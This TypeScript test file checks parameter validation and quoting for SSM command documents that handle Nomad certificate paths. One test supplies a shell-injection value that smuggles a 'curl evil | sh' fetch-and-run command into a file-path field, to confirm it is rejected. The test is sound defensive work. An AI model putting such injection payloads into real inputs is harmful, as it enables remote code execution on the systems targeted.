import { describe, expect, it } from 'vitest';
import { commandDocument, DOCUMENTS, scriptText, validateDocumentParameters } from '../../shared/documents';
import { ValidationError } from '../../shared/errors';

const prepare = {
  attemptId: 'abc123-0f0f0f0f',
  keyType: 'ec-p256',
  agentKeyPath: '/opt/nomad/agent-certs/agent.key',
  agentCertPath: '/opt/nomad/agent-certs/agent.crt',
  cliKeyPath: '/opt/nomad/cli-certs/cli.key',
  cliCertPath: '/opt/nomad/cli-certs/cli.crt',
};

describe('SSM documents', () => {
  it('give every parameter an allowedPattern and use every parameter in the script', () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      const document = commandDocument(kind);
      const script = scriptText(kind);

      expect(document.schemaVersion).toBe('2.2');
      for (const [name, parameter] of Object.entries(document.parameters)) {
        expect(parameter.allowedPattern, `${kind}.${name}`).toMatch(/^\^.*\$$/);
        const placeholder = new RegExp(`\\{\\{ ${name} \\}\\}`);
        expect(placeholder.test(script) || name === 'executionTimeout', `${kind} uses ${name}`).toBe(true);
      }
      const placeholders = [...script.matchAll(/\{\{ (\w+) \}\}/g)].map((match) => match[1]);
      for (const name of placeholders)
        expect(document.parameters, `${kind} declares ${name}`).toHaveProperty(name!);
    }
  });

  it('quote every parameter in single quotes, where a pattern-checked value cannot break out', () => {
    for (const kind of Object.keys(DOCUMENTS) as (keyof typeof DOCUMENTS)[]) {
      for (const line of scriptText(kind).split('\n')) {
        for (const match of line.matchAll(/(.)\{\{ \w+ \}\}(.)/g))
          expect(`${match[1]}${match[2]}`, line).toBe("''");
      }
      for (const parameter of Object.values(commandDocument(kind).parameters)) {
        expect(new RegExp(parameter.allowedPattern).test("a'b"), parameter.description).toBe(false);
      }
    }
  });

  it('accept valid parameters and fill defaults', () => {
    const parameters = validateDocumentParameters('prepare', prepare);

    expect(parameters.keyType).toEqual(['ec-p256']);
    expect(parameters.executionTimeout).toEqual(['900']);
  });

  it('refuse a value that could inject shell, naming the parameter but not echoing the value', () => {
    const attempt = () =>
      validateDocumentParameters('prepare', { ...prepare, agentKeyPath: "/opt/x'; curl evil | sh; '" });

    expect(attempt).toThrow(ValidationError);
    expect(attempt).toThrow(/agentKeyPath: must match/);
    expect(attempt).not.toThrow(/curl evil/);
  });

  it('refuse unknown and missing parameters', () => {
    const { cliCertPath: _omitted, ...rest } = prepare;
    expect(() => validateDocumentParameters('prepare', { ...rest, extra: 'x' } as never)).toThrow(
      /extra: unknown parameter.*cliCertPath: required/,
    );
  });
});
